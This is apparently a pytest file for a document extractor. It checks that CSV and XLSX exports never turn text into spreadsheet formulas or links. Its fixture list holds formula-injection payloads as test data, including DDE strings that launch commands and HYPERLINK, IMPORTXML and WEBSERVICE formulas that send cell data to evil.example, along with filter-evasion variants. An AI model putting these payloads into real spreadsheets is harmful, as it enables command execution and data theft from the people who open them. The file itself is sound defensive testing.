"""No text of a document becomes a formula in a spreadsheet."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from extractor.export import write_csv, write_xlsx
from extractor.records import Extraction
from tests.factories import NARRATIVE, extraction, fact, finding, item, percentage, quantity, result, run, skip

FORMULAS = (
    "=1+1",
    "=SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "=cmd|'/c calc'!A1",
    '=DDE("cmd";"/c calc";"a")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    "={1,2}",
    "==1",
    "= 1+1",
    "+1+1",
    "+cmd|'/c calc'!A1",
    "++1",
    "-1+1",
    "-cmd|'/c calc'!A1",
    "--1",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)",
    "@cmd",
    "\t=1+1",
    "\t1",
    "\r=1+1",
    "\r\n=1+1",
    "\n=1+1",
    "\n-1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "   @SUM(1)",
    "\u3000=1+1",
    "\ufeff=1+1",
    ";=1+1",
    '"=1+1',
    '","=1+1',
    '";"=1+1',
    "a\n=1+1",
    "a;=1+1",
    "http://evil.example/",
)
_STARTS = tuple("=+-@\t\r\n＝＋－＠")


@pytest.fixture(params=FORMULAS)
def hostile(request: pytest.FixtureRequest) -> Extraction:
    """A bulletin that has one such string wherever a document can put it."""
    text = str(request.param)
    narrative = f"{text}{NARRATIVE}"
    facts = [fact(quantity(narrative, text, -3, text, subject=text)), fact(percentage(narrative, "5%", -5))]
    told = finding("notice", (0, len(text)), check=text)
    row = item("1", narrative, heading=text, task=text, units=(text,), leaders=(text,), deadline=text, status=text)
    return extraction(result(row, facts, findings=[told.model_copy(update={"zh": text})]), stem=text, title=text)


def test_csv_has_no_formula(hostile: Extraction, tmp_path: Path) -> None:
    """No cell of a CSV file starts a formula, neither as it stands nor once a spreadsheet program has read it."""
    write_csv([hostile], tmp_path)
    book = openpyxl.Workbook()
    sheet = book.create_sheet("read")
    for path in sorted(tmp_path.glob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as file:
            for row in csv.reader(file, quoting=csv.QUOTE_NONNUMERIC):
                sheet.append(row)
    cells = [cell for row in sheet.iter_rows() for cell in row]

    assert [] == [cell.value for cell in cells if cell.data_type == "f"]
    assert [] == [cell.value for cell in cells if isinstance(cell.value, str) and _blank_free(cell.value)]


def _blank_free(text: str) -> bool:
    return text.lstrip(" \u3000\ufeff").startswith(_STARTS)


def test_xlsx_has_no_formula(hostile: Extraction, tmp_path: Path) -> None:
    """Every text of the spreadsheet is a string cell, without formula or link."""
    path = tmp_path / "facts.xlsx"
    write_xlsx([hostile], path, run=run(), skips=[skip(hostile.bulletin.stem)])
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]

    assert [] == [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink]
    assert hostile.bulletin.title.text == str(book["总览"]["A2"].value).replace("_x000D_", "\r")


def test_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    """A decrease is a number in both files, not a text with a mark before it."""
    fallen = fact(percentage(NARRATIVE, "5%", -5, kind="change"))
    write_csv([extraction(result(facts=[fallen]))], tmp_path)
    write_xlsx([extraction(result(facts=[fallen]))], tmp_path / "facts.xlsx")
    with (tmp_path / "percentages.csv").open(encoding="utf-8-sig", newline="") as file:
        _, row = csv.reader(file)
    book = openpyxl.load_workbook(tmp_path / "facts.xlsx")

    assert "-5" == row[5]
    assert -5 == book["百分比"]["F2"].value
